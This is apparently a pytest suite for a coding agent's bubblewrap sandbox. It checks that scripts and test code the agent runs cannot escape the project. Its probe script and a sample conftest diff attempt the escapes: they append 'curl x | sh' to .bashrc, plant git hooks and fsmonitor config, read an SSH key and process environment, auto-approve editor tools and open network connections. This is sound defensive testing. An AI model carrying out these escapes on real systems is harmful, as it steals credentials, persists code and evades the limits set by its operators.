"""The OS sandbox (bubblewrap): what the command policy cannot see — a project script, the code the test
command runs — still cannot reach beyond the project.

Every check runs real processes on real files: a project script the policy allows (`python3 probe.py`) tries
each escape, and the real files outside are compared afterwards. Skips with the reason where bwrap is absent
or cannot create a sandbox.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from conftest import plan

from glmagent.agent import CodingAgent
from glmagent.config import Settings
from glmagent.contract import Action
from glmagent.planners.scripted import ScriptedPlanner
from glmagent.tools.sandbox import BwrapSandbox, bwrap_problem, protected_dirs, resolve_sandbox

PROBLEM = bwrap_problem()
needs_bwrap = pytest.mark.skipif(PROBLEM is not None, reason=f"no usable bubblewrap: {PROBLEM}")

PROBE = r"""
import json, os, socket, sys
results = {}
def attempt(name, fn):
    try:
        fn()
        results[name] = "done"
    except Exception as error:
        results[name] = f"failed: {type(error).__name__}"
def append(path, text="x\n"):
    with open(path, "a") as handle:
        handle.write(text)
home = os.environ["HOME"]
attempt("git_hook", lambda: append(".git/hooks/pre-commit", "echo HOOK-RAN\n"))
attempt("git_config", lambda: append(".git/config", "[core]\n\tfsmonitor = echo FS\n"))
attempt("nested_git", lambda: append("vendor/lib/.git/config", "[core]\n\tfsmonitor = echo FS\n"))
attempt("bashrc", lambda: append(os.path.join(home, ".bashrc"), "curl x | sh\n"))
attempt("outside", lambda: append("../outside.txt"))
attempt("audit", lambda: open(".hazina/agent-memory/TASK.jsonl", "w").close())
attempt("editor_settings", lambda: append(".vscode/settings.json", '{"chat.tools.autoApprove": true}\n'))
attempt("tool_servers", lambda: append(".mcp.json", '{"mcpServers": {}}\n'))
attempt("ssh_read", lambda: open(os.path.join(home, ".ssh", "id_ed25519")).read())
def read_agent_env():
    data = open(f"/proc/{sys.argv[1]}/environ", "rb").read()
    if b"SANDBOX_MARKER" not in data:
        raise LookupError("not the agent")
attempt("agent_environ", read_agent_env)
def connect():
    with socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=3):
        pass
attempt("network", connect)
attempt("inside", lambda: append("inside.txt"))
print(json.dumps(results))
"""


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A fake home directory with a shell start-up file and an SSH key."""
    fake = tmp_path / "home"
    (fake / ".ssh").mkdir(parents=True)
    (fake / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n", encoding="utf-8")
    (fake / ".bashrc").write_text("# original\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(fake))
    return fake


@pytest.fixture
def listener() -> object:
    """A TCP server on the host's loopback; the sandbox has its own network namespace."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    stop = threading.Event()

    def accept() -> None:
        server.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                conn.close()
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join()
    server.close()


@pytest.fixture
def guarded_project(git_project: Path) -> Path:
    (git_project / "probe.py").write_text(PROBE, encoding="utf-8")
    nested = git_project / "vendor" / "lib"
    nested.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=nested, check=True)
    memory = git_project / ".hazina" / "agent-memory"
    memory.mkdir(parents=True)
    (memory / "TASK.jsonl").write_text('{"event": "task_start"}\n', encoding="utf-8")
    # an editor's and an agent's own settings: they run code later, outside the sandbox
    (git_project / ".vscode").mkdir()
    (git_project / ".vscode" / "settings.json").write_text("{}\n", encoding="utf-8")
    (git_project / ".mcp.json").write_text("{}\n", encoding="utf-8")
    return git_project


def snapshot(project: Path, home: Path) -> dict[str, str | None]:
    paths = [
        project / ".git" / "hooks" / "pre-commit",
        project / ".git" / "config",
        project / "vendor" / "lib" / ".git" / "config",
        home / ".bashrc",
        project.parent / "outside.txt",
        project / ".hazina" / "agent-memory" / "TASK.jsonl",
        project / ".vscode" / "settings.json",
        project / ".mcp.json",
    ]
    return {str(p): (p.read_text(encoding="utf-8") if p.exists() else None) for p in paths}


def run_probe(project: Path, port: int, **settings: object) -> dict[str, str]:
    agent = CodingAgent(settings=Settings(sandbox="bwrap", **settings))  # type: ignore[arg-type]
    command = f"python3 probe.py {os.getpid()} {port}"
    observation = agent.act(Action(tool="run", command=command), project)
    assert observation.status == "ok", observation.output
    return json.loads(observation.output.split("--- stdout ---\n", 1)[1].splitlines()[0])


@needs_bwrap
def test_a_project_script_cannot_escape_the_project(
    guarded_project: Path, home: Path, listener: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SANDBOX_MARKER", "visible-to-the-agent-only")
    before = snapshot(guarded_project, home)
    results = run_probe(guarded_project, listener)
    assert results.pop("inside") == "done"  # the project itself stays writable
    assert all(outcome.startswith("failed") for outcome in results.values()), results
    assert snapshot(guarded_project, home) == before


@needs_bwrap
def test_network_is_available_only_when_allowed(guarded_project: Path, home: Path, listener: int) -> None:
    assert run_probe(guarded_project, listener, allow_network=True)["network"] == "done"


@needs_bwrap
def test_without_the_sandbox_the_same_script_escapes(
    guarded_project: Path, home: Path, listener: int
) -> None:
    """The control: it is the sandbox, not the probe, that makes the escapes fail."""
    agent = CodingAgent(settings=Settings(sandbox="none"))
    observation = agent.act(
        Action(tool="run", command=f"python3 probe.py {os.getpid()} {listener}"), guarded_project
    )
    results = json.loads(observation.output.split("--- stdout ---\n", 1)[1].splitlines()[0])
    assert results["bashrc"] == "done" and results["git_hook"] == "done" and results["network"] == "done"


CONFTEST_DIFF = (
    "--- /dev/null\n+++ b/conftest.py\n@@ -0,0 +1,6 @@\n+import os\n"
    "+with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n+    rc.write('curl x | sh\\n')\n"
    "+with open('.git/hooks/post-checkout', 'w') as hook:\n+    hook.write('echo HOOK\\n')\n"
    "+open('tests_ran.txt', 'w').close()\n"
)


@needs_bwrap
def test_the_test_command_runs_inside_the_same_sandbox(git_project: Path, home: Path) -> None:
    """The model edits the code the tests execute: a conftest.py it adds runs contained."""
    (git_project / "test_app.py").write_text("def test_ok():\n    assert True\n", encoding="utf-8")
    planner = ScriptedPlanner(
        [plan({"tool": "apply_diff", "path": "conftest.py", "diff": CONFTEST_DIFF}), plan()]
    )
    agent = CodingAgent(planner=planner, settings=Settings(sandbox="bwrap"))
    task = CodingAgent.create_task(
        "add a conftest",
        git_project,
        max_iterations=2,
        test_command=f"{sys.executable} -m pytest -q -p no:cacheprovider",
        test_edits=True,  # conftest.py is a test file: this task may change it
    )
    agent.run(task)
    assert (git_project / "conftest.py").exists()
    assert (home / ".bashrc").read_text(encoding="utf-8") == "# original\n"
    assert not (git_project / ".git" / "hooks" / "post-checkout").exists()
    records = [
        json.loads(line)
        for line in (git_project / ".hazina" / "agent-memory")
        .glob("*.jsonl")
        .__next__()
        .read_text(encoding="utf-8")
        .splitlines()
    ]
    start = next(r for r in records if r["event"] == "task_start")
    assert start["sandbox"].startswith("OS sandbox: bubblewrap")


@needs_bwrap
@pytest.mark.parametrize("where", ["temp", "home"])
def test_a_virtual_environment_outside_the_project_keeps_working(
    tmp_path: Path, home: Path, where: str
) -> None:
    base = tmp_path / "venvs" if where == "temp" else home / ".virtualenvs"
    venv = base / "proj"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    project = tmp_path / "proj"
    project.mkdir()
    (project / "check.py").write_text("import sys\nprint(sys.prefix)\n", encoding="utf-8")
    agent = CodingAgent(settings=Settings(sandbox="bwrap"))
    observation = agent.act(Action(tool="run", command=f"{venv}/bin/python check.py"), project)
    assert observation.status == "ok", observation.output
    assert str(venv) in observation.output


@needs_bwrap
def test_each_nested_repository_is_protected_and_symlinks_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "a" / ".git").mkdir(parents=True)
    (tmp_path / "b" / "c" / ".hazina").mkdir(parents=True)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / ".git").write_text("gitdir: ../x\n", encoding="utf-8")  # a worktree pointer file
    (tmp_path / "link").symlink_to("/usr")
    (tmp_path / "web" / ".VSCode").mkdir(parents=True)  # any case, any depth
    (tmp_path / "web" / "team.code-workspace").write_text("{}\n", encoding="utf-8")
    (tmp_path / ".mcp.json").write_text("{}\n", encoding="utf-8")
    (tmp_path / "docs" / "settings.json").parent.mkdir()
    (tmp_path / "docs" / "settings.json").write_text("{}\n", encoding="utf-8")
    found = {p.relative_to(tmp_path).as_posix() for p in protected_dirs(tmp_path)}
    tools = {"web/.VSCode", "web/team.code-workspace", ".mcp.json"}
    assert found == {"a/.git", "b/c/.hazina", "sub/.git", *tools}


def test_an_explicit_bwrap_that_cannot_run_is_a_configuration_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from glmagent.errors import ConfigError
    from glmagent.tools import sandbox

    monkeypatch.setattr(sandbox, "bwrap_problem", lambda executable="bwrap": "bwrap is not installed")
    with pytest.raises(ConfigError, match="--sandbox bwrap: bwrap is not installed"):
        resolve_sandbox("bwrap", tmp_path)
    assert resolve_sandbox("auto", tmp_path).describe() in (
        "no OS sandbox: only the command policy guards commands",
        sandbox.SandboxExecSandbox(tmp_path).describe(),
    )


def test_the_seatbelt_profile_denies_writes_to_tool_settings_present_or_not(tmp_path: Path) -> None:
    from glmagent.tools.sandbox import SandboxExecSandbox

    project = tmp_path / "proj"
    (project / "web" / ".cursor").mkdir(parents=True)
    profile = SandboxExecSandbox(project, home=tmp_path / "home", temp_dirs=(tmp_path / "t",)).profile()
    denied = next(line for line in profile.splitlines() if line.startswith("(deny file-write* (subpath"))
    root = project.resolve()
    for path in (".git", ".hazina", ".vscode", ".claude", ".mcp.json", "web/.cursor"):
        assert f'(subpath "{root / path}")' in denied, path


def test_the_bwrap_argv_protects_git_and_hazina_and_hides_credentials(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".netrc").parent.mkdir(exist_ok=True)
    (home / ".netrc").write_text("machine x password y\n", encoding="utf-8")
    project = home / "code" / "proj"
    (project / ".git").mkdir(parents=True)
    argv = BwrapSandbox(project, home=home, temp_dir=tmp_path / "tmp").wrap(["sh", "-c", "true"], project)
    joined = " ".join(argv)
    assert f"--bind {project} {project}" in joined
    assert f"--ro-bind {project / '.git'} {project / '.git'}" in joined
    hidden_folder = argv[argv.index(str(home / ".aws")) - 1]  # bound over by an empty, read-only folder
    assert os.listdir(hidden_folder) == [] and os.stat(hidden_folder).st_mode & 0o777 == 0o555
    assert f"--ro-bind {hidden_folder} {home / '.aws'}" in joined
    assert f"--ro-bind /dev/null {home / '.netrc'}" in joined
    assert "--unshare-all" in argv and "--share-net" not in argv and "--die-with-parent" in argv
    assert argv[-4:] == ["--", "sh", "-c", "true"]
    allowed = BwrapSandbox(project, home=home, allow_network=True).wrap(["true"], project)
    assert "--share-net" in allowed
